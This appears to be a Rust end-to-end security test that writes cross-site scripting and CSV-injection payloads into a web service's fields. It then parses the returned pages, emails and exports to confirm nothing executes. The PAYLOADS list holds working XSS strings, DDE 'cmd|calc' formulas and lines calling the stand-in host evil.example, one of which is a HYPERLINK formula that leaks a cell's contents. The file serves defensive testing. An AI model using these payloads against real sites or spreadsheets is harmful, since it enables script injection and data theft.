//! Hostile input, end to end: a corpus of classic cross-site scripting and
//! CSV-injection payloads is written into every text field a person can
//! fill in (through the JSON API, or the page where a field has no API),
//! then every place the text comes back is fetched and checked: pages,
//! emails (both parts, as delivered), and exports (CSV, JSON, Markdown, the
//! board report, audit trails, consultation exports and each person's own
//! data). Forms that show back what was typed (a preview, a refusal) are
//! checked too.
//!
//! Each payload carries a marker naming its field and its place in the
//! corpus (`xss7731` + a two-letter field code + the payload's number), so
//! that every output is also checked to *show* the text it should: a check
//! that never finds its marker would prove nothing.
//!
//! HTML is read with a real parser (html5ever, through `scraper`) and must
//! hold no element that runs or loads anything (`script`, `style`,
//! `iframe`, `object`, `embed`, `img`, `meta`, `base`...) made from a
//! payload, no `on*` attribute at all, no `href`/`src`/`action`/
//! `formaction`/... leading to a `javascript:`, `vbscript:` or `data:`
//! address, no `srcdoc`, and no `style` attribute carrying a payload. CSV
//! cells must never start with `=`, `+`, `-`, `@`, a tab or a carriage
//! return (the service prefixes such a cell with `'`: `defuse_csv_cell`).
//! Markdown exports are rendered as a Markdown viewer that passes raw HTML
//! through would render them, then checked as HTML; the one field that is
//! Markdown by design (the outcome summary) must be there as written and is
//! left to the viewer's own sanitising, as the service's pages sanitise it.
//!
//! The people, their API tokens (which the pages accept as well as a
//! session, with no CSRF token needed) and the board are set up directly;
//! signing in is tested in `sign_in.rs`.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use chrono::Utc;
use entity::email_outbox;
use hub::auth::domain::Role;
use reqwest::Method;
use scraper::{ElementRef, Html, Node, Selector};
use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
use serde_json::{Value, json};

use crate::consultations::at;
use crate::helpers::{TestApp, decode_quoted_printable, id_of, spawn_app};

/// The corpus. `{m}` becomes the marker; most payloads start with it, so
/// that a field's length limit cuts the payload's tail, not its marker.
const PAYLOADS: &[&str] = &[
    "{m} <script>alert('{m}')</script>",
    "{m} <img src=x onerror=alert('{m}')>",
    "{m} <svg onload=alert('{m}')><script>alert('{m}')</script><a xlink:href=\"javascript:alert(1)\">s</a></svg>",
    "{m} [click me](javascript:alert('{m}'))",
    "{m} <javascript:alert('{m}')> [x](jav&#x09;ascript:alert(1)) [y](&#106;avascript:alert(1))",
    "{m} [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href=\"vbscript:msgbox('{m}')\">v</a>",
    "{m}\"><script>alert('{m}')</script>",
    "{m}'><img src=x onerror=alert('{m}')>",
    "{m}\" autofocus onfocus=\"alert('{m}')\" x=\"' onmouseover='alert(1)' y='",
    "{m} </textarea></title></style><script>alert('{m}')</script>",
    "{m} {{7*7}} ${7*7} <%= 7*7 %> {% if 1 %}{{ '{m}' }}{% endif %} #{7*7}",
    "{m} &lt;script&gt;alert('{m}')&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3C;svg onload=alert(1)&#x3E;",
    "{m} <div style=\"background:url(javascript:alert('{m}'));width:expression(alert('{m}'))\">css</div>",
    "{m} <style>@import 'https://evil.example/{m}.css';body{background:red}</style>",
    "{m} <iframe src=\"javascript:alert('{m}')\" srcdoc=\"<script>alert(1)</script>\"></iframe><object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "{m} <form action=\"javascript:alert('{m}')\"><button formaction=\"javascript:alert('{m}')\">go</button></form>",
    "{m} <base href=\"https://evil.example/{m}/\"><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
    "{m} <math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "{m} <noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\"></noscript>",
    "{m} \u{ff1c}script\u{ff1e}alert('{m}')\u{ff1c}/script\u{ff1e} <scr\u{200b}ipt>alert(1)</script> java\u{200b}script:alert(1)",
    "{m} \u{202e}gnp.exe <a href=\"java&#10;script:alert('{m}')\">n</a> <a href=\"&#14;javascript:alert(1)\">o</a>",
    "={m}+HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "+{m}+cmd|' /C calc'!A0",
    "-{m}+2+cmd|' /C calc'!A0",
    "@SUM({m})*cmd|' /C calc'!A0",
    "\t={m}+1+1",
];

const MARK: &str = "xss7731";

/// How many payloads are planted or checked at once.
const CONCURRENCY: usize = 4;

/// A field people write: its two-letter code (in markers), what it is and
/// its length limit (payloads are cut to it).
struct Field {
    code: &'static str,
    name: &'static str,
    max_chars: usize,
    /// Only shown back (a search, a refused form), never stored.
    echo_only: bool,
}

const fn field(code: &'static str, name: &'static str, max_chars: usize) -> Field {
    Field {
        code,
        name,
        max_chars,
        echo_only: false,
    }
}

const fn echo(code: &'static str, name: &'static str, max_chars: usize) -> Field {
    Field {
        code,
        name,
        max_chars,
        echo_only: true,
    }
}

const FIELDS: &[Field] = &[
    field("dn", "profile: full name", 100),
    field("jt", "profile: job title", 100),
    field("og", "profile: organisation", 200),
    field("tk", "API token name", 60),
    field("it", "idea: title", 150),
    field("id", "idea: description", 20_000),
    field("ie", "idea: expected impact", 2_000),
    field("cm", "idea: comment", 10_000),
    field("ce", "idea: comment as edited", 10_000),
    field("hr", "idea: why a comment was hidden", 1_000),
    field("sn", "idea: status change note", 5_000),
    field("th", "theme name", 80),
    field("tg", "tag", 40),
    field("ni", "internal note", 10_000),
    field("nr", "reply to the author", 10_000),
    field("rs", "report: system", 200),
    field("rp", "report: supplier", 200),
    field("rr", "report: standard reference", 500),
    field("ri", "report: impact on patients", 5_000),
    field("rf", "report: impact on staff", 5_000),
    field("re", "report: evidence", 20_000),
    field("rn", "report: status change note", 5_000),
    field("or", "organisation register: name (imported)", 200),
    field("oj", "organisation import: a refused row's name", 200),
    field("oc", "organisation import: a refused row's code", 20),
    field("ct", "consultation: title", 200),
    field("cs", "consultation: summary", 2_000),
    field("cd", "consultation: document text", 10_000),
    field("ch", "consultation: document heading", 150),
    field("qp", "consultation: question", 500),
    field("qh", "consultation: question's help text", 1_000),
    field("qo", "consultation: question's option", 200),
    field("vs", "consultation: new version's change summary", 5_000),
    field("os", "consultation: outcome summary (Markdown)", 20_000),
    field("on", "response: organisation responded for", 200),
    field("pa", "response: declared interest, products", 2_000),
    field("ci", "response: declared interest, commercial", 2_000),
    field("an", "response: answer", 20_000),
    field("sc", "response: comment on a section", 20_000),
    field("ra", "decision rationale", 5_000),
    field("rx", "redaction reason", 1_000),
    field("rd", "answer as published after redaction", 20_000),
    field("ss", "saved search: name", 100),
    field("sq", "saved search: query", 500),
    echo("q_", "search query", 500),
    echo("lp", "link: address typed on the page", 500),
];

fn field_of(code: &str) -> &'static Field {
    FIELDS
        .iter()
        .find(|f| f.code == code)
        .unwrap_or_else(|| panic!("no field {code}"))
}

fn marker(code: &str, i: usize) -> String {
    format!("{MARK}{code}{i:02}")
}

/// The field named by a marker found in some output.
fn field_of_marker(m: &str) -> &'static Field {
    field_of(&m[MARK.len()..MARK.len() + 2])
}

/// Payload `i` as written into the field `code`, cut to the field's limit.
fn text(code: &str, i: usize) -> String {
    let full = PAYLOADS[i].replace("{m}", &marker(code, i));
    let cut: String = full.chars().take(field_of(code).max_chars).collect();
    assert!(cut.contains(&marker(code, i)), "{code}{i}: marker cut off");
    cut
}

/// Harmless text for a field whose payload was refused, so that the rest
/// of the journey goes on.
fn plain(code: &str, i: usize) -> String {
    format!("Plain {code} {i}")
}

/// What the service accepted (so must show back) and what it refused.
#[derive(Default)]
struct Ledger {
    accepted: BTreeSet<String>,
    refused: Vec<String>,
}

/// An answer read whole.
struct Answer {
    status: u16,
    content_type: String,
    body: String,
}

impl Answer {
    fn json(&self) -> Value {
        serde_json::from_str(&self.body).unwrap_or_else(|e| panic!("not JSON ({e}): {}", self.body))
    }
}

enum Body {
    None,
    Json(Value),
    Form(Vec<(String, String)>),
    Csv(String),
}

fn form(pairs: &[(&str, String)]) -> Body {
    Body::Form(
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), v.clone()))
            .collect(),
    )
}

/// What the tasks share: the service's address, a client, the board's and
/// the administrator's tokens, and what was accepted.
struct Ctx {
    base: String,
    client: reqwest::Client,
    board: String,
    admin: String,
    ledger: Mutex<Ledger>,
}

impl Ctx {
    async fn send(&self, method: Method, path: &str, token: Option<&str>, body: Body) -> Answer {
        let mut request = self
            .client
            .request(method.clone(), format!("{}{path}", self.base));
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        request = match body {
            Body::None => request,
            Body::Json(v) => request.json(&v),
            Body::Form(fields) => request.form(&fields),
            Body::Csv(text) => request.header("content-type", "text/csv").body(text),
        };
        let resp = request
            .send()
            .await
            .unwrap_or_else(|e| panic!("{method} {path}: {e}"));
        let status = resp.status().as_u16();
        let content_type = resp
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
            .to_owned();
        let body = resp.text().await.expect("body");
        assert!(status < 500, "{method} {path} failed with {status}: {body}");
        Answer {
            status,
            content_type,
            body,
        }
    }

    async fn get(&self, path: &str, token: Option<&str>) -> Answer {
        let answer = self.send(Method::GET, path, token, Body::None).await;
        assert_eq!(answer.status, 200, "GET {path}: {}", answer.body);
        answer
    }

    async fn json(&self, method: Method, path: &str, token: &str, body: Value) -> Answer {
        self.send(method, path, Some(token), Body::Json(body)).await
    }

    /// Sends `body` with each of `fields` (JSON key, field code) holding
    /// payload `i`. A field the service refuses (422 naming it) is recorded
    /// and sent again as plain text, so that the rest goes on. Returns the
    /// successful answer's JSON.
    async fn submit(
        &self,
        method: Method,
        path: &str,
        token: &str,
        mut body: Value,
        fields: &[(&str, &str)],
        i: usize,
    ) -> Value {
        for (key, code) in fields {
            body[*key] = json!(text(code, i));
        }
        let mut refused: BTreeSet<&str> = BTreeSet::new();
        loop {
            let answer = self.json(method.clone(), path, token, body.clone()).await;
            if (200..300).contains(&answer.status) {
                for (key, code) in fields {
                    if !refused.contains(key) {
                        self.accept(code, i);
                    }
                }
                return if answer.body.is_empty() {
                    Value::Null
                } else {
                    answer.json()
                };
            }
            assert_eq!(
                answer.status, 422,
                "{method} {path}, payload {i}: {}",
                answer.body
            );
            let problem = answer.json();
            let named = |key: &str| {
                problem["errors"]
                    .as_array()
                    .is_some_and(|errors| errors.iter().any(|e| e["field"] == key))
            };
            let newly: Vec<&(&str, &str)> = fields
                .iter()
                .filter(|(key, _)| named(key) && !refused.contains(key))
                .collect();
            assert!(
                !newly.is_empty(),
                "{method} {path}, payload {i}, refused for something else: {problem}"
            );
            for (key, code) in newly {
                refused.insert(key);
                self.refuse(code, i, &problem["errors"].to_string());
                body[*key] = json!(plain(code, i));
            }
        }
    }

    fn refuse(&self, code: &str, i: usize, why: &str) {
        let why: String = why.chars().take(160).collect();
        self.ledger.lock().expect("ledger").refused.push(format!(
            "{} ({code}), payload {i}: {why}",
            field_of(code).name
        ));
    }

    fn accept(&self, code: &str, i: usize) {
        self.ledger
            .lock()
            .expect("ledger")
            .accepted
            .insert(marker(code, i));
    }

    fn accepted(&self, code: &str, i: usize) -> bool {
        self.ledger
            .lock()
            .expect("ledger")
            .accepted
            .contains(&marker(code, i))
    }

    /// What was stored in `code` for payload `i`.
    fn stored(&self, code: &str, i: usize) -> String {
        if self.accepted(code, i) {
            text(code, i)
        } else {
            plain(code, i)
        }
    }

    /// The markers of `codes` for payload `i` that the service accepted.
    fn expect(&self, codes: &[&str], i: usize) -> Vec<String> {
        codes
            .iter()
            .filter(|c| self.accepted(c, i))
            .map(|c| marker(c, i))
            .collect()
    }

    /// The same for payloads `from`.
    fn expect_of(&self, codes: &[&str], from: impl IntoIterator<Item = usize>) -> Vec<String> {
        from.into_iter()
            .flat_map(|i| self.expect(codes, i))
            .collect()
    }

    /// The same for every payload.
    fn expect_all(&self, codes: &[&str]) -> Vec<String> {
        self.expect_of(codes, 0..PAYLOADS.len())
    }
}

/// One payload's person and what they and the board made with it.
#[derive(Default, Clone)]
struct World {
    i: usize,
    email: String,
    token: String,
    theme: String,
    idea: String,
    comment: String,
    hidden_comment: String,
    report: String,
    slug: String,
    consultation_id: String,
    free_question: String,
    choice_question: String,
    response: String,
    section_comment: String,
}

fn person(i: usize) -> String {
    format!("person{i:02}@example.nhs.uk")
}

/// The organisation each payload's report is made at (imported with the
/// payload as its name).
fn ods(i: usize) -> String {
    format!("XSS{i:02}")
}

/// How many payloads each digest reader follows: a digest shows ten lines
/// a section, and each payload gives two items (its idea and its report).
const PER_DIGEST: usize = 5;

fn digest_reader(k: usize) -> String {
    format!("digest{k}@example.nhs.uk")
}

/// The payloads digest reader `k` follows.
fn followed(k: usize) -> impl Iterator<Item = usize> {
    (k * PER_DIGEST..PAYLOADS.len()).take(PER_DIGEST)
}

/// The profile has no API: it is set on its page, all at once, or field by
/// field when refused so that each refusal is put down to its field.
async fn profile(ctx: &Ctx, w: &World) {
    let i = w.i;
    let post = |name: String, organisation: String, job_title: String| {
        form(&[
            ("display_name", name),
            ("respondent_type", "supplier".to_owned()),
            ("organisation", organisation),
            ("ods_code", String::new()),
            ("job_title", job_title),
        ])
    };
    let all = ctx
        .send(
            Method::POST,
            "/profile",
            Some(&w.token),
            post(text("dn", i), text("og", i), text("jt", i)),
        )
        .await;
    if all.status == 303 {
        for code in ["dn", "og", "jt"] {
            ctx.accept(code, i);
        }
        return;
    }
    assert_eq!(all.status, 422, "profile: {}", all.body);
    let mut kept = [plain("dn", i), String::new(), String::new()];
    for (n, code) in ["dn", "og", "jt"].into_iter().enumerate() {
        let mut trying = kept.clone();
        trying[n] = text(code, i);
        let [name, organisation, job_title] = trying.clone();
        let answer = ctx
            .send(
                Method::POST,
                "/profile",
                Some(&w.token),
                post(name, organisation, job_title),
            )
            .await;
        if answer.status == 303 {
            ctx.accept(code, i);
            kept = trying;
        } else {
            assert_eq!(answer.status, 422, "profile: {}", answer.body);
            ctx.refuse(code, i, "the profile page refused it");
        }
    }
    let [name, organisation, job_title] = kept;
    let answer = ctx
        .send(
            Method::POST,
            "/profile",
            Some(&w.token),
            post(name, organisation, job_title),
        )
        .await;
    assert_eq!(answer.status, 303, "profile: {}", answer.body);
}

/// Everything payload `i` goes into: written by its person and the board.
async fn plant(ctx: Arc<Ctx>, mut w: World) -> World {
    let i = w.i;
    let board = ctx.board.clone();
    profile(&ctx, &w).await;
    ctx.submit(
        Method::POST,
        "/api/v1/tokens",
        &w.token,
        json!({}),
        &[("name", "tk")],
        i,
    )
    .await;

    // A theme from the board, and the person's idea in it.
    let theme = ctx
        .submit(
            Method::POST,
            "/api/v1/themes",
            &board,
            json!({}),
            &[("name", "th")],
            i,
        )
        .await;
    w.theme = theme["slug"].as_str().expect("slug").to_owned();
    let idea = ctx
        .submit(
            Method::POST,
            "/api/v1/ideas",
            &w.token,
            json!({ "themes": [w.theme], "beneficiaries": ["patients"] }),
            &[
                ("title", "it"),
                ("description", "id"),
                ("expected_impact", "ie"),
            ],
            i,
        )
        .await;
    w.idea = id_of(&idea);
    let comments = format!("/api/v1/ideas/{}/comments", w.idea);
    let comment = ctx
        .submit(
            Method::POST,
            &comments,
            &w.token,
            json!({}),
            &[("body", "cm")],
            i,
        )
        .await;
    w.comment = id_of(&comment);
    // A second comment, edited, then hidden by the board.
    let second = ctx
        .json(
            Method::POST,
            &comments,
            &w.token,
            json!({ "body": "A first thought" }),
        )
        .await;
    assert_eq!(second.status, 201, "{}", second.body);
    w.hidden_comment = id_of(&second.json());
    ctx.submit(
        Method::PATCH,
        &format!("/api/v1/comments/{}", w.hidden_comment),
        &w.token,
        json!({}),
        &[("body", "ce")],
        i,
    )
    .await;
    ctx.submit(
        Method::POST,
        &format!("/api/v1/comments/{}/hide", w.hidden_comment),
        &board,
        json!({}),
        &[("reason", "hr")],
        i,
    )
    .await;
    // Shortlisted, so that it is in the report to government.
    ctx.submit(
        Method::POST,
        &format!("/api/v1/ideas/{}/status", w.idea),
        &board,
        json!({ "status": "shortlisted" }),
        &[("note", "sn")],
        i,
    )
    .await;
    let item = format!("/api/v1/inbox/idea/{}", w.idea);
    for (visibility, code) in [("internal", "ni"), ("reply", "nr")] {
        ctx.submit(
            Method::POST,
            &format!("{item}/notes"),
            &board,
            json!({ "visibility": visibility }),
            &[("body", code)],
            i,
        )
        .await;
    }
    ctx.submit(
        Method::POST,
        &format!("{item}/tags"),
        &board,
        json!({}),
        &[("tag", "tg")],
        i,
    )
    .await;

    // The person's critical report, at the organisation imported with this
    // payload as its name.
    let report = ctx
        .submit(
            Method::POST,
            "/api/v1/reports",
            &w.token,
            json!({
                "organisation": ods(i),
                "category": "outage",
                "severity": "critical",
                "confidential": false
            }),
            &[
                ("system_name", "rs"),
                ("supplier_name", "rp"),
                ("standard_reference", "rr"),
                ("patient_impact", "ri"),
                ("staff_impact", "rf"),
                ("evidence", "re"),
            ],
            i,
        )
        .await;
    w.report = id_of(&report);
    ctx.submit(
        Method::POST,
        &format!("/api/v1/reports/{}/status", w.report),
        &board,
        json!({ "status": "triaged" }),
        &[("note", "rn")],
        i,
    )
    .await;
    let links = format!("{item}/links");
    let linked = ctx
        .json(
            Method::POST,
            &links,
            &board,
            json!({ "kind": "report", "id": w.report }),
        )
        .await;
    assert_eq!(linked.status, 201, "{}", linked.body);

    // The consultation: the board writes it, the person responds, the
    // board publishes a new version, closes it, decides on the comment,
    // redacts the answer and publishes the outcome.
    w.slug = format!("xss-{i:02}");
    let document = format!(
        "# Scope\n\n{}\n\n# {}\n\nThe second section.",
        text("cd", i),
        text("ch", i)
    );
    let details = json!({
        "slug": w.slug,
        "audience": ["everyone"],
        "opens_at": at(chrono::Duration::hours(-1)),
        "closes_at": at(chrono::Duration::days(1)),
        "document": document
    });
    let created = ctx
        .submit(
            Method::POST,
            "/api/v1/consultations",
            &board,
            details.clone(),
            &[("title", "ct"), ("summary", "cs")],
            i,
        )
        .await;
    w.consultation_id = id_of(&created);
    // The document went in whole, with both of its payloads.
    ctx.accept("cd", i);
    ctx.accept("ch", i);
    let consultation = format!("/api/v1/consultations/{}", w.slug);
    let free = ctx
        .submit(
            Method::POST,
            &format!("{consultation}/questions"),
            &board,
            json!({ "kind": "free_text", "required": true }),
            &[("prompt", "qp"), ("help_text", "qh")],
            i,
        )
        .await;
    w.free_question = id_of(&free);
    let mut option = text("qo", i);
    let choice = loop {
        let answer = ctx
            .json(
                Method::POST,
                &format!("{consultation}/questions"),
                &board,
                json!({ "kind": "single_choice", "prompt": "Do you support it?", "options": [option, "No"] }),
            )
            .await;
        if answer.status == 201 {
            break answer.json();
        }
        assert_eq!(answer.status, 422, "{}", answer.body);
        ctx.refuse("qo", i, &answer.body);
        option = plain("qo", i);
    };
    if option == text("qo", i) {
        ctx.accept("qo", i);
    }
    w.choice_question = id_of(&choice);
    let chosen = choice["options"][0].as_str().expect("an option").to_owned();
    let published = ctx
        .json(
            Method::POST,
            &format!("{consultation}/publish"),
            &board,
            json!({}),
        )
        .await;
    assert_eq!(published.status, 200, "{}", published.body);

    let mut answers = serde_json::Map::new();
    answers.insert(w.free_question.clone(), json!([text("an", i)]));
    answers.insert(w.choice_question.clone(), json!([chosen]));
    ctx.submit(
        Method::PUT,
        &format!("{consultation}/response"),
        &w.token,
        json!({
            "capacity": "organisation",
            "interests": "yes",
            "consent": "named",
            "answers": answers,
            "comments": { "scope": text("sc", i) }
        }),
        &[
            ("organisation_name", "on"),
            ("products_affected", "pa"),
            ("commercial_interest", "ci"),
        ],
        i,
    )
    .await;
    // The answer and the comment went in with the rest.
    ctx.accept("an", i);
    ctx.accept("sc", i);
    let submitted = ctx
        .send(
            Method::POST,
            &format!("{consultation}/response/submit"),
            Some(&w.token),
            Body::None,
        )
        .await;
    assert_eq!(submitted.status, 200, "{}", submitted.body);

    // A link to the section headed by the payload.
    let detail: Value = ctx.get(&consultation, Some(&board)).await.json();
    let anchor = detail["sections"][1]["anchor"]
        .as_str()
        .expect("the second section's anchor");
    let to_section = ctx
        .json(
            Method::POST,
            &links,
            &board,
            json!({ "kind": "consultation_section", "id": w.consultation_id, "anchor": anchor }),
        )
        .await;
    assert_eq!(to_section.status, 201, "{}", to_section.body);

    let document_v2 = format!("{document}\n\nA line added in the second version.");
    ctx.submit(
        Method::POST,
        &format!("{consultation}/versions"),
        &board,
        json!({ "document": document_v2 }),
        &[("change_summary", "vs")],
        i,
    )
    .await;
    let mut closing = details;
    closing["title"] = json!(ctx.stored("ct", i));
    closing["summary"] = json!(ctx.stored("cs", i));
    closing["document"] = json!(document_v2);
    closing["closes_at"] = json!(at(chrono::Duration::minutes(-1)));
    let closed = ctx.json(Method::PUT, &consultation, &board, closing).await;
    assert_eq!(closed.status, 200, "closed: {}", closed.body);

    let responses: Value = ctx
        .get(&format!("{consultation}/responses"), Some(&board))
        .await
        .json();
    let listed = &responses["items"][0];
    w.response = id_of(listed);
    w.section_comment = id_of(&listed["comments"][0]);
    ctx.submit(
        Method::PUT,
        &format!("{consultation}/comments/{}/disposition", w.section_comment),
        &board,
        json!({ "disposition": "accepted" }),
        &[("rationale", "ra")],
        i,
    )
    .await;
    let mut published_answers = serde_json::Map::new();
    published_answers.insert(w.free_question.clone(), json!(text("rd", i)));
    let redacted = ctx
        .json(
            Method::PUT,
            &format!("{consultation}/responses/{}/redaction", w.response),
            &board,
            json!({ "reason": text("rx", i), "answers": published_answers }),
        )
        .await;
    if redacted.status == 200 {
        ctx.accept("rx", i);
        ctx.accept("rd", i);
    } else {
        assert_eq!(redacted.status, 422, "{}", redacted.body);
        ctx.refuse("rx", i, &redacted.body);
        ctx.refuse("rd", i, &redacted.body);
    }
    ctx.submit(
        Method::POST,
        &format!("{consultation}/outcome"),
        &board,
        json!({}),
        &[("summary", "os")],
        i,
    )
    .await;
    w
}

/// What the checks found.
#[derive(Default)]
struct Findings {
    /// Something that would run, or a formula cell.
    unsafe_output: Vec<String>,
    /// A marker not shown where it should be.
    missing: Vec<String>,
    outputs: usize,
}

/// Elements that run or load something: none may come from a payload.
const ACTIVE_ELEMENTS: &[&str] = &[
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "meta",
    "link",
    "img",
    "image",
    "picture",
    "video",
    "audio",
    "source",
    "track",
    "template",
    "noscript",
    "portal",
    "foreignobject",
    "xmp",
    "plaintext",
    "marquee",
    "bgsound",
];

/// Attributes holding an address that a browser follows or loads.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "codebase",
    "dynsrc",
    "lowsrc",
    "ping",
    "manifest",
    "longdesc",
    "srcset",
];

/// Whether a browser would run this address or show it as a document of
/// its own: browsers drop whitespace and control characters in and around
/// the scheme, and ignore its case.
fn runs_script(url: &str) -> bool {
    let squeezed = url
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:", "livescript:"]
        .iter()
        .any(|scheme| squeezed.starts_with(scheme))
}

/// A style attribute that came from what someone wrote.
fn style_from_input(style: &str) -> bool {
    let lower = style.to_ascii_lowercase();
    lower.contains(MARK)
        || [
            "expression(",
            "url(",
            "javascript:",
            "@import",
            "behavior",
            "-moz-binding",
        ]
        .iter()
        .any(|s| lower.contains(s))
}

fn snippet(s: &str) -> String {
    s.chars().take(160).collect::<String>().replace('\n', " ")
}

/// The markers in `s`, each with the field it names.
fn culprits(s: &str) -> Vec<String> {
    let mut found: Vec<String> = s
        .match_indices(MARK)
        .filter_map(|(at, _)| s.get(at..at + MARK.len() + 4))
        .filter(|m| {
            FIELDS
                .iter()
                .any(|f| f.code == &m[MARK.len()..MARK.len() + 2])
        })
        .map(|m| format!("{m} ({})", field_of_marker(m).name))
        .collect();
    found.sort();
    found.dedup();
    found
}

impl Findings {
    /// Walks parsed HTML: what would run goes to `unsafe_output`, and the
    /// text a reader sees (text nodes, and the values of inputs) is returned.
    fn inspect(&mut self, output: &str, doc: &Html) -> String {
        let mut shown = String::new();
        for node in doc.tree.nodes() {
            match node.value() {
                Node::Element(element) => {
                    let name = element.name().to_ascii_lowercase();
                    let outer = || ElementRef::wrap(node).map(|e| e.html()).unwrap_or_default();
                    let mut problems = Vec::new();
                    for (attribute, value) in element.attrs() {
                        let attribute = attribute.to_ascii_lowercase();
                        if attribute.starts_with("on") {
                            problems.push(format!("an event handler `{attribute}`"));
                        }
                        if attribute == "srcdoc" {
                            problems.push("a `srcdoc` document".to_owned());
                        }
                        if URL_ATTRIBUTES.contains(&attribute.as_str()) && runs_script(value) {
                            problems.push(format!("`{attribute}` to `{}`", snippet(value)));
                        }
                        if attribute == "style" && style_from_input(value) {
                            problems.push(format!("a style `{}`", snippet(value)));
                        }
                        if name == "input" && attribute == "value" {
                            shown.push_str(value);
                            shown.push('\n');
                        }
                    }
                    if ACTIVE_ELEMENTS.contains(&name.as_str()) && outer().contains(MARK) {
                        problems.push(format!("a `<{name}>` element made from a payload"));
                    }
                    if !problems.is_empty() {
                        let outer = outer();
                        for problem in problems {
                            self.unsafe_output.push(format!(
                                "{output}: {problem} in `{}`, from {:?}",
                                snippet(&outer),
                                culprits(&outer)
                            ));
                        }
                    }
                }
                Node::Text(text) => {
                    let in_code = node
                        .parent()
                        .and_then(|p| p.value().as_element().map(|e| e.name().to_owned()))
                        .is_some_and(|n| n == "script" || n == "style");
                    if !in_code {
                        shown.push_str(text);
                    }
                }
                _ => {}
            }
        }
        shown
    }

    /// Records each of `expected` not in `shown`.
    fn shown(&mut self, output: &str, shown: &str, expected: &[String]) {
        self.outputs += 1;
        for m in expected {
            if !shown.contains(m.as_str()) {
                self.missing.push(format!(
                    "{output}: {m} ({}) is not shown",
                    field_of_marker(m).name
                ));
            }
        }
    }

    fn html(&mut self, output: &str, body: &str, expected: &[String]) {
        let doc = Html::parse_document(body);
        let shown = self.inspect(output, &doc);
        self.shown(output, &shown, expected);
    }

    fn page(&mut self, output: &str, answer: &Answer, expected: &[String]) {
        assert!(
            answer.content_type.starts_with("text/html"),
            "{output} is HTML: {}",
            answer.content_type
        );
        self.html(output, &answer.body, expected);
    }

    /// A Markdown file, rendered with raw HTML passed through. Fields that
    /// are Markdown by design (`as_written`, with their markers) must be in
    /// it as written; they are then set aside, and the rest is checked.
    fn markdown(
        &mut self,
        output: &str,
        body: &str,
        expected: &[String],
        as_written: &[(String, String)],
    ) {
        use pulldown_cmark::{Options, Parser, html};
        let mut body = body.to_owned();
        let mut set_aside = String::new();
        for (m, written) in as_written {
            match body.find(written.as_str()) {
                Some(at) => {
                    body.replace_range(at..at + written.len(), "(set aside)");
                    set_aside.push_str(m);
                }
                None => self.missing.push(format!(
                    "{output}: {m} ({}) is not there as written",
                    field_of_marker(m).name
                )),
            }
        }
        let mut rendered = String::new();
        html::push_html(
            &mut rendered,
            Parser::new_ext(
                &body,
                Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH,
            ),
        );
        let doc = Html::parse_document(&rendered);
        let shown = self.inspect(output, &doc) + &set_aside;
        self.shown(output, &shown, expected);
    }

    fn csv(&mut self, output: &str, body: &str, expected: &[String]) {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(body.as_bytes());
        let mut shown = String::new();
        for record in reader.records() {
            let record = record.unwrap_or_else(|e| panic!("{output} is CSV: {e}"));
            for cell in record.iter() {
                if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                    self.unsafe_output.push(format!(
                        "{output}: the cell `{}` is a formula, from {:?}",
                        snippet(cell),
                        culprits(cell)
                    ));
                }
                shown.push_str(cell);
                shown.push('\n');
            }
        }
        self.shown(output, &shown, expected);
    }

    /// JSON: every `*_html` string is checked as HTML; every string counts
    /// as shown (JSON is data: what matters is that it is served as JSON).
    fn json(&mut self, output: &str, answer: &Answer, expected: &[String]) {
        assert!(
            answer.content_type.starts_with("application/json"),
            "{output} is JSON: {}",
            answer.content_type
        );
        let mut shown = String::new();
        self.walk_json(output, "", &answer.json(), &mut shown);
        self.shown(output, &shown, expected);
    }

    fn walk_json(&mut self, output: &str, key: &str, value: &Value, shown: &mut String) {
        match value {
            Value::String(s) => {
                if key.ends_with("_html") || key == "html" {
                    let doc = Html::parse_fragment(s);
                    self.inspect(&format!("{output} `{key}`"), &doc);
                }
                shown.push_str(s);
                shown.push('\n');
            }
            Value::Array(items) => {
                for item in items {
                    self.walk_json(output, key, item, shown);
                }
            }
            Value::Object(map) => {
                for (k, v) in map {
                    self.walk_json(output, k, v, shown);
                }
            }
            _ => {}
        }
    }

    fn merge(&mut self, other: Findings) {
        self.unsafe_output.extend(other.unsafe_output);
        self.missing.extend(other.missing);
        self.outputs += other.outputs;
    }
}

/// The outcome summary as the Markdown export carries it.
fn outcome_summary(ctx: &Ctx, i: usize) -> Vec<(String, String)> {
    if ctx.accepted("os", i) {
        vec![(marker("os", i), text("os", i).trim().to_owned())]
    } else {
        Vec::new()
    }
}

/// Fetches and checks every place that shows payload `i`'s own things.
async fn check_world(ctx: Arc<Ctx>, w: World) -> Findings {
    let mut f = Findings::default();
    let i = w.i;
    let board = Some(ctx.board.as_str());
    let me = Some(w.token.as_str());
    let e = |codes: &[&str]| ctx.expect(codes, i);

    // The idea, to its author: they see the board's reply and, in place of
    // the hidden comment, the board's reason.
    let idea = format!("/ideas/{}", w.idea);
    let page = ctx.get(&idea, me).await;
    f.page(
        &format!("{idea} (its author)"),
        &page,
        &e(&["it", "id", "ie", "cm", "hr", "sn", "th", "dn", "nr"]),
    );

    // The JSON API's reads that carry rendered Markdown (`*_html`).
    let api = format!("/api/v1/consultations/{}", w.slug);
    for (path, token, expected) in [
        (
            format!("/api/v1/ideas/{}", w.idea),
            None,
